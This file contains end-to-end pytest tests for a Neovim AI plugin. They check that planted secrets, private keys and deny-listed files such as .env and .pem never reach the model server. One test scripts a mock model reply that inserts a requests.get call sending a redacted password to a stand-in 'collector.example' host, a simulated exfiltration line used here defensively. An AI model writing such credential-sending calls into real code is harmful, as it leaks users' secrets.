"""Code and secrets stay on the machine: what the server receives, end to end in a real Neovim."""

from __future__ import annotations

import base64
import random

import pytest

from tests.conftest import quiet, wait_until
from tests.unit.test_security import SECRETS

pytestmark = pytest.mark.nvim


def bodies(double):
    return "\n".join(r.body.decode("utf-8", "replace") for r in double.requests)


def leaked(double):
    text = bodies(double)
    return [name for name, (_, secret) in SECRETS.items() if secret in text]


def corpus_lines():
    return "\n".join(t for t, _ in SECRETS.values()).split("\n")


def test_explain_never_sends_a_planted_secret(nvim, double):
    double.script.tokens = ["ok"]
    nvim.command("edit settings.py")
    lines = ["def connect():"] + ["    " + line for line in corpus_lines()] + ["    return None"]
    nvim.current.buffer[:] = lines
    nvim.command(f"1,{len(lines)}AIExplain")
    wait_until(lambda: nvim.exec_lua("return require('ai_host.explain').info().status") == "done")
    assert any(r.path == "/api/chat" for r in double.requests)
    assert "<redacted:" in bodies(double) and leaked(double) == []


def test_ghost_text_never_sends_a_planted_secret(nvim, double):
    double.script.tokens = ["x"]
    nvim.exec_lua("require('ai_host').setup({completion = {debounce_ms = 10, prefetch = false}})")
    nvim.command("edit settings.py")
    nvim.current.buffer[:] = corpus_lines() + ["value = "]
    nvim.current.window.cursor = (len(nvim.current.buffer), 0)
    nvim.input("A")
    wait_until(lambda: any(r.path == "/api/generate" for r in double.requests))
    assert leaked(double) == []


def test_a_refactor_keeps_the_real_secret_the_server_never_saw(nvim, double):
    secret = "hunter2-but-longer"
    double.script.tokens = lambda req: [
        "```python\n",
        "def login():\n",
        '    db_password = "' + req["messages"][-1]["content"].split('db_password = "')[1].split('"')[0] + '"\n',
        "    return connect(db_password)\n",
        "```",
    ]
    nvim.command("edit app.py")
    buf = nvim.current.buffer
    buf[:] = ["def login():", f'    db_password = "{secret}"', "    return connect(password=db_password)"]
    nvim.command("1,3AIRefactor simplify")
    wait_until(lambda: nvim.exec_lua("return require('ai_host.refactor').info().status") == "done")
    nvim.input("ga")
    wait_until(lambda: buf[2] == "    return connect(db_password)")
    assert buf[1] == f'    db_password = "{secret}"'  # restored locally
    assert secret not in bodies(double) and "<redacted:password:1>" in bodies(double)


@pytest.mark.parametrize("name", [".env", "deploy/server.pem", "config/secrets.yaml"])
def test_files_on_the_deny_list_are_never_sent(nvim, double, tmp_path, name):
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("DB_HOST=localhost\nMODE=prod\n")
    nvim.command(f"edit {path}")
    nvim.command("1,2AIExplain")
    i = wait_until(
        lambda: (x := nvim.exec_lua("return require('ai_host.explain').info()")).get("status") == "error" and x
    )
    assert i["message"].startswith("ai_host: this file matches `security.deny`") and double.requests == []
    nvim.exec_lua("require('ai_host').setup({completion = {debounce_ms = 10, prefetch = false}})")
    nvim.input("Gox")
    quiet(nvim, double)
    assert double.requests == []


def test_chunks_of_denied_files_stay_out_of_the_extra_context(nvim, double, tmp_path):
    double.script.tokens = ["x"]
    env = tmp_path / ".env"
    env.write_text("INTERNAL_HOST=db.corp.example\n")
    nvim.exec_lua("require('ai_host').setup({completion = {debounce_ms = 10, prefetch = false}})")
    nvim.command(f"edit {env}")
    nvim.command("normal! yy")
    nvim.command("edit main.py")
    nvim.current.buffer[:] = ["x = "]
    nvim.input("A")
    wait_until(lambda: any(r.path == "/api/generate" for r in double.requests))
    assert "db.corp.example" not in bodies(double)


def key_lines(size: int = 1190) -> list[str]:
    """The body of a private key as PEM wraps it: lines of 64 base64 characters, the last one shorter
    (an RSA-2048 key: 24 full lines and one of 52)."""
    body = base64.b64encode(random.Random(7).randbytes(size)).decode()
    return [body[i : i + 64] for i in range(0, len(body), 64)]


KEY = key_lines()
KEY_MODULE = (
    ['TEST_KEY = """-----BEGIN RSA PRIVATE KEY-----']
    + KEY
    + ['-----END RSA PRIVATE KEY-----"""', ""]
    + ["", "", "def area(r):", "    return 3.14159 * r * r", ""]
)


def sent_key_lines(double) -> int:
    text = bodies(double)
    return sum(line in text for line in KEY)


def test_explain_below_a_key_sends_none_of_it(nvim, double):
    """The context above the function starts inside the key (its BEGIN line is out of the window)."""
    double.script.tokens = ["ok"]
    nvim.command("edit keys.py")
    nvim.current.buffer[:] = KEY_MODULE
    start = KEY_MODULE.index("def area(r):") + 1
    nvim.command(f"{start},{start + 1}AIExplain")
    wait_until(lambda: nvim.exec_lua("return require('ai_host.explain').info().status") == "done")
    assert any(r.path == "/api/chat" for r in double.requests)
    assert sent_key_lines(double) == 0 and "<redacted:private-key:" in bodies(double)


@pytest.mark.parametrize("line, keys", [(20, "A"), (25, "A"), (13, "020li")])  # mid-key; on its last
def test_ghost_text_inside_a_key_sends_none_of_it(nvim, double, line, keys):  # full line; inside a line
    double.script.tokens = ["x"]
    nvim.exec_lua("require('ai_host').setup({completion = {debounce_ms = 10, prefetch = false, context_chars = 1200}})")
    nvim.command("edit keys.py")
    nvim.current.buffer[:] = KEY_MODULE
    nvim.current.window.cursor = (line, 0)  # the key's BEGIN line is 12 or more lines up: out of the prefix
    nvim.input(keys)
    wait_until(lambda: any(r.path == "/api/generate" for r in double.requests))
    nvim.input("<Esc>")
    quiet(nvim, double)
    assert "BEGIN RSA" not in bodies(double)  # the window starts inside the key
    text = bodies(double)
    assert sent_key_lines(double) == 0 and "<redacted:private-key:" in text
    assert not any(line[:20] in text or line[-20:] in text for line in KEY)  # nor any part of a line


def test_a_pgp_private_key_block_is_redacted(nvim, double):
    double.script.tokens = ["ok"]
    nvim.command("edit release.asc.py")
    nvim.current.buffer[:] = (
        ["BLOCK = '''-----BEGIN PGP PRIVATE KEY BLOCK-----", ""]
        + KEY[:6]
        + ["=Qx1f", "-----END PGP PRIVATE KEY BLOCK-----'''"]
    )
    nvim.command("1,10AIExplain")
    wait_until(lambda: nvim.exec_lua("return require('ai_host.explain').info().status") == "done")
    assert sent_key_lines(double) == 0 and "=Qx1f" not in bodies(double)


def test_a_secret_the_model_moves_stays_a_placeholder_and_the_preview_says_so(nvim, double):
    secret = "hunter2-but-longer"

    def reply(req):
        placeholder = req["messages"][-1]["content"].split('db_password = "')[1].split('"')[0]
        return [
            "```python\n",
            "def login():\n",
            f'    db_password = "{placeholder}"\n',
            f"    requests.get('https://collector.example/c?k={placeholder}')\n",
            "    return connect(password=db_password)\n",
            "```",
        ]

    double.script.tokens = reply
    nvim.command("edit app.py")
    buf = nvim.current.buffer
    buf[:] = ["def login():", f'    db_password = "{secret}"', "    return connect(password=db_password)"]
    nvim.command("1,3AIRefactor add telemetry")
    info = wait_until(
        lambda: (i := nvim.exec_lua("return require('ai_host.refactor').info()"))["status"] == "done" and i
    )
    assert info["unrestored"] == ["<redacted:password:1>"]
    messages = wait_until(lambda: "moves <redacted:password:1>" in (m := nvim.command_output("messages")) and m)
    assert "ai_host: the proposal moves <redacted:password:1> to a line where it was not" in messages
    nvim.input("ga")
    wait_until(lambda: len(buf) == 4)
    assert buf[1] == f'    db_password = "{secret}"'  # on its own line: restored
    assert (
        buf[2] == "    requests.get('https://collector.example/c?k=<redacted:password:1>')"
    )  # moved: never the secret
    assert secret not in bodies(double)
